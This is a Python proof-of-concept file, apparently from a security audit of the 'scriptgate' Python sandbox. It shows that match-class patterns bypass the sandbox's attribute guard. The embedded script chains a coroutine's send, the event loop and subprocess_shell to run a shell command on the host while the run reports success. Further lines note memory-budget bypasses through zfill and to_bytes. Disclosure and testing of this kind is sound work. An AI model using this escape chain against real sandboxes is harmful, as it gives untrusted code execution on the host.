"""G00 (in-process CRITICAL: host code execution as the host user; process mode: the same
reach inside the worker, where the jail stops exec): a `match` class pattern reads any
public attribute of any object in C, past the attribute guard, and binds the raw result.

Mechanism: compile/policy.py `visit_MatchClass` only checks the *names* of keyword
attributes (no leading `_`, not format/mro/...). At run time CPython's MATCH_CLASS reads
`getattr(subject, name)` itself: guards/attributes.py `_guarded_getattr` (the per-type
allow-list, "send/throw/close on nothing", "no attribute at all of a value not holdable",
the bounded-method wrappers, `check_value` on the result) never runs. `case object(...)`
matches every subject.
Shown: the issue-13 chain, reopened:
  `match coro: case object(send=s)` -> `s(None)` gives the asyncio Future it awaits;
  `case object(get_loop=gl)` -> the host's running event loop;
  `case object(subprocess_shell=sh, create_task=ct)` -> `ct(sh(P, "id > FILE"))` runs a
  shell command on the host (as root here) while the run reports ok=True.
Also (same hole, the size guards): `match "1": case str(zfill=z)` then `z(300_000_000)`
and `match 1: case int(to_bytes=tb)` then `tb(300_000_000, "big")` allocate 300 MB in one
call against a 200 MiB budget, ok=True (both measured: +285 MB).
Expected: attribute reads in patterns are guarded like `obj.attr` (README: a script never
holds a Future, loop or host coroutine method). Actual: arbitrary host code execution.
Run: uv run python findings2/g00_class_pattern_bypasses_attribute_guard.py [process]
(writes /tmp/scriptgate_g00_pwned.txt in-process; in process mode the shell is refused by
seccomp but the Future and the worker's loop are still held.)
"""

from __future__ import annotations

import os
import sys

from scriptgate import Limits, Sandbox

PROOF = "/tmp/scriptgate_g00_pwned.txt"
SCRIPT = f"""
import asyncio
async def f():
    await asyncio.sleep(0.05)
c = f()
match c:
    case object(send=s):
        pass
fut = s(None)
match fut:
    case object(get_loop=gl):
        loop = gl()
match loop:
    case object(subprocess_shell=sh, create_task=ct):
        pass
class P:
    def connection_made(self, transport):
        pass
    def pipe_data_received(self, fd, data):
        pass
    def pipe_connection_lost(self, fd, exc):
        pass
    def process_exited(self):
        pass
    def connection_lost(self, exc):
        pass
task = ct(sh(P, "id > {PROOF}", stdin=None, stdout=None, stderr=None))
await asyncio.sleep(0.5)
[repr(fut), repr(loop), repr(task)[:120]]
"""

iso = sys.argv[1] if len(sys.argv) > 1 else "in_process"
if os.path.exists(PROOF):
    os.unlink(PROOF)
result = Sandbox([], isolation=iso, limits=Limits(timeout=5)).run_sync(SCRIPT)  # type: ignore[arg-type]
print("ok", result.ok, "error", result.error)
print("value", result.value)
if os.path.exists(PROOF):
    with open(PROOF) as proof:
        print("host shell ran:", proof.read().strip())
else:
    print("no shell ran (process mode: seccomp refused exec)")
